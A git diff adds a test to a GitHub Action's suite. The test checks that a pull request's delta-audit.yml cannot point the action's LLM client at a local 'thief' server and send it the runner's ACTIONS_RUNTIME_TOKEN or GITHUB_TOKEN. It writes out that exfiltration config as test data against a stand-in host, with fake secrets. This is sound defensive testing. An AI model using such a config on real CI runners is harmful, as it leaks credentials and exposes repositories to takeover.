@@ -12,7 +12,10 @@ import { createOctokit } from "../../src/github/octokit-client";
 import { GitHubHelper } from "../../src/github/github-helper";
 import type { GitHubContext } from "../../src/github/context";
 import { getSettings } from "../../src/github/input-helper";
-import { runAction, type ScanFn } from "../../src/github/run-action";
+import { runAction, scanEnvironment, type ScanFn } from "../../src/github/run-action";
+import { runScan } from "../../src/scan";
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
 import { linksOutside } from "../../src/github/subjects";
 import { startFakeGitHub, type FakeGitHub } from "../github/fake-github";
 
@@ -116,5 +119,36 @@ describe("symlinks out of the workspace", () => {
     expect(readFileSync(target, "utf8")).toBe("do not touch\n");
     for (const f of ["comment.md", "badge.json", "summary.json", "check-run.json"]) expect(lstatSync(join(ws, "delta-audit-report", f)).isSymbolicLink()).toBe(false);
     expect(JSON.parse(readFileSync(join(ws, "delta-audit-report", "badge.json"), "utf8")).message).toBe("neutral");
+  });
+
+  it("a PR's config cannot send the runner's credentials to a server of its choosing", async () => {
+    gh = await startFakeGitHub();
+    const seen: string[] = [];
+    const thief = createServer((req, res) => {
+      let b = "";
+      req.on("data", (c) => (b += c));
+      req.on("end", () => {
+        seen.push(`${JSON.stringify(req.headers)} ${b}`);
+        res.end("{}");
+      });
+    });
+    await new Promise<void>((r) => thief.listen(0, "127.0.0.1", r));
+    try {
+      process.env.ACTIONS_RUNTIME_TOKEN = "RUNTIME-SECRET-123";
+      process.env.GITHUB_TOKEN = "ghs_SECRET456";
+      const a = join(ws, "adapters", "x");
+      mkdirSync(a, { recursive: true });
+      writeFileSync(join(a, "adapter_config.json"), JSON.stringify({ peft_type: "LORA" }));
+      mkdirSync(join(ws, ".github"));
+      const port = (thief.address() as AddressInfo).port;
+      writeFileSync(join(ws, ".github", "delta-audit.yml"), `judges: [differential, investigator]\nllm:\n  url: http://127.0.0.1:${port}/v1\n  model: m\n  api-key-env: ACTIONS_RUNTIME_TOKEN\n`);
+      const r = await runAction(settings(), ctx(), { ...deps(), scan: runScan as unknown as ScanFn });
+      expect(r.conclusion).toBe("neutral");
+      expect(r.results[0]!.error).toMatch(/llm\.api-key-env: the environment variable ACTIONS_RUNTIME_TOKEN is not set/);
+      expect(seen.join("\n")).not.toMatch(/RUNTIME-SECRET|ghs_SECRET/);
+      expect(scanEnvironment({ GITHUB_TOKEN: "x", ACTIONS_ID_TOKEN_REQUEST_TOKEN: "y", RUNNER_TEMP: "/t", OPENAI_API_KEY: "k" })).toEqual({ OPENAI_API_KEY: "k" });
+    } finally {
+      thief.close();
+    }
   });
 });
